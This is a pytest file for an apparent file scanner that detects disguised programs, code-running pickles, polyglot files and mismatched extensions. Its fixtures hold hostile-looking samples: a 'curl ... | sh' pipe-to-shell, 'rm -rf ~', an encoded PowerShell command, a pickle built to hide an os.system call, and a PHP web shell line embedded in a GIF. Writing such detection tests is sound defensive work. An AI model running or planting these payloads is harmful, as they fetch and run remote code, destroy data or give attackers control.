def test_the_cells_of_a_notebook_are_members_with_their_lines() -> None:
    data = notebook(CELLS)
    members, notices = examined("a.ipynb", data)
    lines = data.decode().split("\n")
    assert notices == []
    found = {
        path.removeprefix("a.ipynb!/"): (member.data, member.region, set(member.types or ()))
        for path, member in members.items()
    }
    assert found == {
        "cell-1": (b"# Title\nText\n", Region.PROSE, {FileType.MARKDOWN}),
        "cell-2": (b'import os\nos.system("id")\n', Region.CODE, {FileType.PYTHON}),
        "cell-3": (b"!curl https://get.example/i | sh", Region.CODE, {FileType.PYTHON, FileType.SHELL}),
        "cell-3!/output.text": (b"run this\nplain", Region.OUTPUT, {FileType.TEXT}),
        "cell-3!/output.html": (b"<b>x</b>", Region.OUTPUT, {FileType.HTML}),
    }
    assert "import os" in lines[members["a.ipynb!/cell-2"].line - 1]
    assert "curl" in lines[members["a.ipynb!/cell-3"].line - 1]


def test_a_notebook_is_told_by_its_content_and_its_language() -> None:
    data = notebook([{"cell_type": "code", "source": "rm -rf ~"}], kernelspec={"language": "bash"})
    (member,) = examined("data.json", data)[0].values()
    assert member.types == frozenset({FileType.SHELL})


@pytest.mark.parametrize(
    "data",
    [
        b"{",
        b"[1]",
        b'{"cells": ' + b"[" * 100_000,
        b'{"a": ' * 3000,
        b"\xff\xfe\0\xd8",
        b'{"cells": 1' + b"0" * 5000 + b"}",
    ],
    ids=["cut", "list", "deep list", "deep object", "no text", "long number"],
)
def test_a_notebook_that_cannot_be_read_is_unknown_text_and_a_finding(data: bytes) -> None:
    members, notices = examined("a.ipynb", data)
    assert [notice.rule for notice in notices] == ["archive_unreadable"]
    assert [(member.data, member.types) for member in members.values()] == [(data, UNKNOWN_TEXT)]


@pytest.mark.parametrize(
    "content",
    [
        {"cells": [1, {"source": 5}, {"cell_type": "code", "source": [1, "a"], "outputs": [3, {"data": []}]}]},
        {"cells": {}},
    ],
)
def test_a_notebook_of_odd_members_is_read(content: dict[str, Any]) -> None:
    examined("a.ipynb", json.dumps(content).encode())


@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
def test_strings_are_found_in_any_binary_file(encoding: str) -> None:
    text = "powershell -enc SQBFAFgA https://get.example"
    data = b"SQLite format 3\0" + bytes(range(128, 256)) * 50 + text.encode(encoding) + b"\xfe\xff\x01" * 50
    (member,) = examined("a.db", data)[0].values()
    assert text in member.data.decode()
    assert FileType.BINARY in (member.types or ())


@given(
    st.lists(
        st.one_of(
            st.binary(max_size=8),
            st.integers(22, 26).map(lambda count: b"a b\t~\r\n" * count),
            st.integers(20, 26).map(lambda count: (b"text " * 6)[:count]),
            st.integers(4, 8).map(lambda count: b"w\0" * count),
            st.just(b"\x7f"),
        ),
        max_size=6,
    ).map(b"".join)
)
def test_the_glance_at_a_binary_file_overlooks_no_string(data: bytes) -> None:
    plain = re.search(rb"[\t\n\r\x20-\x7e]{24}|(?:[\t\n\r\x20-\x7e]\0){6}", data) is not None
    assert _strings._may_have_strings(data) == plain == any(True for _ in _strings.strings("a.bin", data))


def test_a_script_in_a_binary_file_has_the_type_of_its_language() -> None:
    data = b"\x01\x92\xfe" * 3000 + b"import os\nos.system('curl https://get.example | sh')\n" + b"\x01\x92\xfe" * 3000
    (member,) = examined("a.dat", data)[0].values()
    assert (member.types or set()) >= {FileType.BINARY, FileType.PYTHON}


@pytest.mark.parametrize(
    "data",
    [
        ELF,
        PE,
        b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\x90" * 50,
        b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\x90" * 50,
        b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\x90" * 50,
        b"\0asm\x01\0\0\0" + b"\x90" * 50,
        b"\x4c\0\0\0\x01\x14\x02\0" + b"\x90" * 50,
    ],
    ids=["ELF", "PE", "Mach-O", "universal", "Java", "WebAssembly", "shortcut"],
)
@pytest.mark.parametrize("name", ["tool", "tool.so", "tool.node"])
def test_a_program_is_reported(name: str, data: bytes) -> None:
    assert rules_of(name, data) == {"native_binary"}


class _Runs:
    def __reduce__(self) -> tuple[Any, ...]:
        return eval, ("1",)


class _Asks:
    def __reduce__(self) -> tuple[Any, ...]:
        return __import__("os").getcwd, ()


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("content", [_Runs(), [_Asks()], {"a": ["text", "text", _Runs()]}])
def test_a_pickle_that_runs_something_is_reported_under_every_protocol(protocol: int, content: object) -> None:
    assert rules_of("model.pkl", pickle.dumps(content, protocol)) == {"pickle_code"}


def test_a_pickle_that_runs_something_is_reported_in_a_zip_and_in_an_array() -> None:
    data = pickle.dumps(_Runs())
    assert rules_of("model.pt", zipped({"archive/data.pkl": data})) == {"pickle_code"}
    array = b"\x93NUMPY\x01\0\x46\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    assert rules_of("x.npy", array + data) == {"pickle_code"}


def test_a_pickle_that_hides_what_it_runs_is_reported() -> None:
    # The name is copied and dropped again, so that it is not the last that was pushed.
    data = b"\x80\x04\x8c\x02os\x8c\x06system20\x93\x8c\x02id\x85R."
    assert rules_of("x", data) == {"pickle_code"}


def test_a_pickle_of_data_is_listed() -> None:
    data = pickle.dumps({"os": 1, "eval": [slice(1, 2), complex(1, 2)], "when": __import__("datetime").date.min})
    assert rules_of("x.pkl", data) == {"pickle_file"}


@pytest.mark.parametrize("text", [b"cos\nsystem\nare words.\n", b"click\nflask\n", b"A sentence.", b"cos\nsin\n"])
def test_text_that_begins_like_a_pickle_is_text(text: bytes) -> None:
    for name in ("requirements.txt", "readme.pt"):
        assert rules_of(name, text) == set()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.png", SCRIPT),
        ("a.pdf", SCRIPT),
        ("a.woff2", b"import os\n"),
        ("a.zip", SCRIPT),
        ("a.jpg", "echo hello".encode("utf-16")),
        ("a.png", ELF),
        ("a.mp3", PE),
        ("a.png", zipped({"a": b"b"})),
        ("README.md", zipped({"a": b"b"})),
        ("notes.txt", ELF),
        ("data.json", gzip.compress(b"x")),
        ("tool.py", ELF),
        ("data.csv", pickle.dumps([1])),
        ("x/notes.txt", tarred({"a": b"b"})),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_reported(name: str, data: bytes) -> None:
    assert "extension_mismatch" in rules_of(name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.png", b""),
        ("a.png", JPEG),
        ("a.jpg", PIXEL + PNG_END),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
        ("yarn.lock", b"# yarn lockfile v1\n"),
        ("a.bin", b"text"),
        ("a.dat", b"text"),
        ("a.ts", b"\x47\x40\x11\x10" + b"\xff" * 184),
        ("a.ts", b"const a = 1\n"),
        ("id.key", b"text"),
        ("a.htm", b"<html></html>"),
        ("a.webp", b"\0\0\0\x1cftypavif" + b"\x92" * 40),
        ("a.docx", zipped(OFFICE)),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff\0" * 300),
        ("a.tgz", tarred({"a.txt": b"b"}, "w:gz")),
        ("zip", b"a list of words"),
        ("bin/png", b"#!/bin/sh\n"),
        ("a.md", "\ufeff# Title".encode()),
        ("a.md", "# Title".encode("utf-16")),
        ("a.txt", b"\xe4\xf6\xfc\xdf caf\xe9 in an old encoding"),
        ("MZ.sh", b"MZ is how programs begin\n" * 10),
        ("a.md", b"%PDF is how documents begin\n"),
        ("a.csv", b"070701,070702,070703\n" * 20),
    ],
)
def test_an_honest_name_is_not_reported(name: str, data: bytes) -> None:
    assert rules_of(name, data) == set()


def test_a_picture_that_was_left_elsewhere_is_listed() -> None:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 12345\n"
    assert rules_of("a.png", pointer) == {"lfs_pointer"}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.gif", b"GIF89a=1;alert('hello')//"),
        ("a.gif", GIF[:-1] + b"<?php system($_GET[0]);" + GIF[-1:]),
        ("a.png", PIXEL + chunk(b"prIV", b"<script>alert(1)</script>") + PNG_END),
        ("a.woff", b"wOFF\0\1\0\0\0\0\0\0" + b"\x95" * 68 + b"<script>"),
    ],
    ids=["GIF and JavaScript", "GIF and PHP", "PNG and HTML", "font and HTML"],
)
def test_a_file_that_is_two_kinds_is_reported(name: str, data: bytes) -> None:
    assert "polyglot" in rules_of(name, data)


def test_the_same_notice_is_given_a_few_times_for_one_file() -> None:
    data = zipped({f"../{number}": b"x" for number in range(50)})
    assert len(examined("x.zip", data)[1]) == 5


def test_random_bytes_yield_nothing_and_cost_next_to_nothing() -> None:
    block = bytes(n * n * 31 + (n >> 3) * 17 & 0xFF for n in range(1 << 12))
    noise = bytearray(zlib.compress(block, 9)[2:]) * 4000
    begin = time.process_time()
    examined("a.bin", b"\xfe\x01" + bytes(noise))
    assert time.process_time() - begin < TIME_BUDGET_SECONDS


SAMPLES: dict[str, bytes] = {
    "a.zip": zipped({"a.txt": b"hello" * 9, "b/c.sh": SCRIPT}),
    "a.docx": zipped(OFFICE | {"word/document.xml": b"<w:p>x</w:p>"}, zipfile.ZIP_STORED),
    "a.tar": tarred({"a.sh": SCRIPT})[:1600],
    "a.tgz": tarred({"a" * 200: SCRIPT}, "w:gz"),
    "a.xz": lzma.compress(SCRIPT),
    "a.bz2": bz2.compress(SCRIPT),
    "a.lzma": lzma.compress(SCRIPT, lzma.FORMAT_ALONE),
    "a.png": PIXEL + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(SCRIPT)) + PNG_END + SCRIPT,
    "a.gif": GIF + SCRIPT,
    "a.jpg": JPEG + SCRIPT,
    "a.pdf": pdf(zlib.compress(b"BT (hello) Tj ET"), b"/Filter /FlateDecode") + SCRIPT,
    "a.pyc": compiled(SOURCE[:300].rpartition("\n")[0]),
    "a.ipynb": notebook(CELLS),
    "a.pkl": pickle.dumps({"a": [_Runs(), 1.5, b"x", {1, 2}]}),
    "b.pkl": pickle.dumps({"a": [_Runs(), 1.5, b"x", {1, 2}]}, 0),
    "a.png.zip": PIXEL + PNG_END + zipped({"a": b"b"}),
    "a.webp": b"RIFF" + struct.pack("<I", 16) + b"WEBPVP8L" + b"\x85" * 8,
}


@pytest.mark.parametrize("name", SAMPLES)
def test_a_file_that_is_cut_anywhere_is_read_as_far_as_it_goes(name: str) -> None:
    data = SAMPLES[name]
    for length in range(len(data)):
        examined(name, data[:length], beside({"a.py": b"x"}))


@pytest.mark.parametrize("name", SAMPLES)
def test_a_file_with_any_byte_changed_is_read(name: str) -> None:
    data = SAMPLES[name]
    for place in range(len(data)):
        for value in (0, 0xFF, data[place] ^ 0x01):
            examined(name, data[:place] + bytes([value]) + data[place + 1 :], beside({"a.py": b"x"}))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.sampled_from(sorted(SAMPLES)),
    edits=st.lists(st.tuples(st.integers(0, 4000), st.integers(0, 40), st.binary(max_size=12)), max_size=6),
)
def test_no_mutation_crashes_the_unpacking(name: str, edits: list[tuple[int, int, bytes]]) -> None:
    data = SAMPLES[name]
    for place, length, content in edits:
        at = place % (len(data) + 1)
        data = data[:at] + content + data[at + length :]
    examined(name, data, beside({"a.py": b"x"}))


@settings(max_examples=300, deadline=None)
@given(
    head=st.sampled_from(
        [b"", b"\x80\x04", b"%PDF-", b"GIF89a", b"\x1f\x8b\x08", b"\xa7\r\r\n", b"BZh91AY&SY", b"x\x9c", b"PK\x05\x06"]
    ),
    data=st.binary(max_size=300),
    name=st.sampled_from(["a", "a.ipynb", "a.pkl", "a.png", "a.md"]),
)
def test_no_bytes_crash_the_unpacking(head: bytes, data: bytes, name: str) -> None:
    examined(name, head + data)


def test_nothing_of_the_bytecode_or_the_pickle_is_loaded(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_args: object) -> None:
        pytest.fail("loaded")

    for function in ("load", "loads"):
        monkeypatch.setattr(pickle, function, refuse)
        monkeypatch.setattr(marshal, function, refuse)
    for name in ("a.pyc", "a.pkl"):
        examined(name, SAMPLES[name])
    assert sys.modules["pickle"] is pickle
